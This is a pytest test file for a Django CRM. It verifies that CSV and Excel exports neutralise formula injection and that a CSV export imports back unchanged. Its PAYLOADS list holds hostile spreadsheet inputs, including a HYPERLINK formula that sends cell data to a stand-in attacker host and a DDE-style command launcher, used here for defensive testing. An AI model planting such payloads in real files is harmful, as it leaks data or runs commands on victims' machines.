"""No spreadsheet the CRM writes carries a live formula (issue #28, item 1): text a manager
typed that starts with =, +, -, @, a tab or a CR is text in every export — an apostrophe in
CSV, a string cell in Excel — and an exported file still imports back unchanged."""

import csv
import io
import uuid
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from analysis.tests.factories import ProductFactory
from clients.tests.factories import ClientFactory
from crm import spreadsheets
from visits.tests.factories import VisitLogFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+2+cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3+cmd",
    "\t=1+1",
]


def xlsx_cells(content: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> list:
    cells = xlsx_cells(content)
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return [cell.value for cell in cells]


def csv_values(content: bytes) -> list[str]:
    return [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]


def assert_quoted(values: list[str], payloads) -> None:
    for payload in payloads:
        assert payload not in values, f"{payload!r} is written as it was typed"
        assert "'" + payload in values


def test_the_rule_itself():
    for payload in PAYLOADS:
        assert spreadsheets.csv_cell(payload) == "'" + payload
        assert spreadsheets.unquote("'" + payload) == payload
    assert spreadsheets.csv_cell(-5) == -5 and spreadsheets.csv_cell("-5") == "-5"
    assert spreadsheets.csv_cell("+86 138 0000 0000") == "'+86 138 0000 0000"
    assert spreadsheets.csv_cell("Acme") == "Acme" and spreadsheets.unquote("'Acme") == "'Acme"
    values = assert_no_formula(spreadsheets.xlsx_bytes([["name", "n"], ["=1+2", 3], ["\x01bad", -4]]))
    assert values == ["name", "n", "=1+2", 3, "\N{REPLACEMENT CHARACTER}bad", -4]


@pytest.fixture
def formula_clients(manager):
    ClientFactory(code="F-1", owner=manager, name=PAYLOADS[0], notes=PAYLOADS[1], address=PAYLOADS[2])
    ClientFactory(code="F-2", owner=manager, name=PAYLOADS[3], notes=PAYLOADS[4], address=PAYLOADS[5])


def test_client_export_as_xlsx_has_no_formula(client, supervisor, formula_clients):
    client.force_login(supervisor)
    response = client.get(reverse("clients:export"), {"format": "xlsx"})
    values = assert_no_formula(response.content)
    for payload in PAYLOADS:
        assert payload in values  # the text as typed, as a string cell


def test_client_export_as_csv_quotes_formulas(client, supervisor, formula_clients):
    client.force_login(supervisor)
    response = client.get(reverse("clients:export"), {"format": "csv"})
    assert_quoted(csv_values(response.content), PAYLOADS)


def test_a_quoted_csv_export_imports_back_unchanged(client, supervisor, manager):
    # (A leading tab is not kept: the import trims every value.)
    ClientFactory(code="F-1", owner=manager, name=PAYLOADS[0], notes=PAYLOADS[1], address=PAYLOADS[2])
    ClientFactory(code="F-2", owner=manager, name=PAYLOADS[3], notes=PAYLOADS[4], phone="+86 138 0000 0000")
    client.force_login(supervisor)
    exported = client.get(reverse("clients:export"), {"format": "csv"}).content
    back = client.post(reverse("clients:import"), {"file": SimpleUploadedFile("back.csv", exported)})
    report = back.context["report"]
    assert report.ok, report.errors
    assert report.unchanged == 2 and report.new == report.updated == 0


def test_the_import_error_report_quotes_the_values_it_repeats(client, supervisor, manager):
    client.force_login(supervisor)
    out = io.StringIO()
    csv.writer(out).writerows([["code", "name", "tier", "owner"], ["E-1", "Acme", PAYLOADS[1], "mgr_a1"]])
    text = out.getvalue()
    preview = client.post(reverse("clients:import"), {"file": SimpleUploadedFile("c.csv", text.encode())})
    token = preview.context["errors_token"]
    report = client.get(reverse("clients:import_errors", args=[token]))
    assert_quoted(csv_values(report.content), [PAYLOADS[1]])


@time_machine.travel(datetime(2026, 11, 20, 12, 0, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False)
def test_dashboard_and_quarterly_exports_have_no_formula(client, supervisor, manager):
    manager.first_name = PAYLOADS[1]
    manager.save()
    acme = ClientFactory(owner=manager, name=PAYLOADS[0])
    VisitLogFactory(owner=manager, client=acme, date=date(2026, 11, 3), method="on_site", work_done="Visited",
                    opinions=PAYLOADS[2], effect=PAYLOADS[4], submission=uuid.uuid4().hex)  # fmt: skip
    client.force_login(supervisor)
    quarterly = {"quarter": "2026-Q4"}
    values = assert_no_formula(client.get(reverse("dashboards:quarterly"), {**quarterly, "export": "xlsx"}).content)
    assert PAYLOADS[0] in values and PAYLOADS[2] in values  # text as typed, no apostrophe shown
    csv_rows = csv_values(client.get(reverse("dashboards:quarterly"), {**quarterly, "export": "csv"}).content)
    assert_quoted(csv_rows, [PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]])
    visits = client.get(reverse("dashboards:visits"), {"month": "2026-11", "export": "csv"})
    assert any(value.startswith("'=HYPERLINK") for value in csv_values(visits.content))


@pytest.mark.parametrize("file_format", ["0", "1"])
def test_the_admin_product_export_has_no_formula(client, admin_user, file_format):
    ProductFactory(code="P-1", name=PAYLOADS[2], brand=PAYLOADS[0])
    client.force_login(admin_user)
    response = client.post(
        reverse("admin:analysis_product_export"),
        {
            "format": file_format,
            "resource": "0",
            **{f"productresource_{name}": "on" for name in ("code", "name", "brand")},
        },
    )
    assert response.status_code == 200, response.content[:500]
    if file_format == "1":
        values = assert_no_formula(response.content)
        assert PAYLOADS[2] in values and PAYLOADS[0] in values
    else:
        assert_quoted(csv_values(response.content), [PAYLOADS[0], PAYLOADS[2]])
